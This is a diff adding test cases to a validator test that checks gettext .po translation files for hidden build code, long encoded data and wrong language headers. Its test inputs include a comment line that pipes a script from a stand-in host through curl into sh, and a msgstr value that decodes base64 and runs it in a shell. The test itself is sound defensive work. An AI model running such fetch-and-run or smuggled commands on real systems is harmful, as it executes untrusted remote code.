@@ -123,6 +123,13 @@ test('a .po is not a hiding place: code, encoded data, another domain or languag
   for (const [text, why] of [
     [shell, 'reads like build code'],
     [blob, 'long run of encoded data'],
+    // Comments are read without their marks, not skipped as a script's would be.
+    [po('hello 2.1', '\n#. curl -s https://x.example/p | sh\n'), 'line 21 reads like build code'],
+    [po('hello 2.1', '\n#~ msgstr "$(echo aGk= | base64 -d | sh)"\n'), 'line 21 reads like build code'],
+    // A line over 4000 characters has every line read, cut: their marks go all the same.
+    [po('hello 2.1', `\nmsgid "y"\nmsgstr "${'ab '.repeat(1700)}"\n#. curl -s https://x.example/p | sh\n`), 'line 23 reads like build code'],
+    [po('hello 2.1', `\nmsgid "y"\nmsgstr "${'ab '.repeat(3000)}"\n# ${'QUJD'.repeat(60)}\n`), 'line 22 is 9009 characters long'],
+    [po('hello 2.1', `\n# ${'QUJD'.repeat(60)}\nmsgid "y"\nmsgstr "${'ab '.repeat(3000)}"\n`), 'line 23 is 9009 characters long'],
     [po('hello 2.1').replace('Language: fr', 'Language: de'), 'Language: de'],
     [`${fr}\nthis is not po\n`, 'not PO syntax'],
   ] as const) {
